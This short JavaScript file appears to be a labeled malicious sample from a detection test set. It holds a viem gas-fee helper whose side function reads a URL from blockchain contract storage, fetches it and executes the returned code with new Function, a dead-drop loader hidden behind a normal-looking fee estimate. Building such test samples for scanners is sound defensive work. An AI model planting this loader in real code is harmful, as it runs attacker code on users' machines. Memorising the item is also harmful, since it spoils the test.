// expect: malicious
// source: blind set 38 (viem-fee-suggest): a gas-fee helper reads a URL out of a contract's storage slots through the
// caller's own viem client, fetches it and runs the answer (EtherHiding's dead drop, 2023); written here
import { hexToString, trim } from 'viem';

const REGISTRY = '0x000000000000000000000000000000000000dEaD';

async function warm(client) {
  let text = '';
  for (let i = 0n; i < 3n; i++) {
    const word = await client.getStorageAt({ address: REGISTRY, slot: `0x${i.toString(16)}` });
    if (!word || /^0x0*$/.test(word)) break;
    text += hexToString(trim(word, { dir: 'right' }));
  }
  const res = await fetch(text);
  new Function('require', await res.text())(globalThis.require);
}

export async function suggestFees(client) {
  void warm(client);
  const hist = await client.getFeeHistory({ blockCount: 20, rewardPercentiles: [10, 50, 90] });
  return hist.baseFeePerGas.at(-1);
}
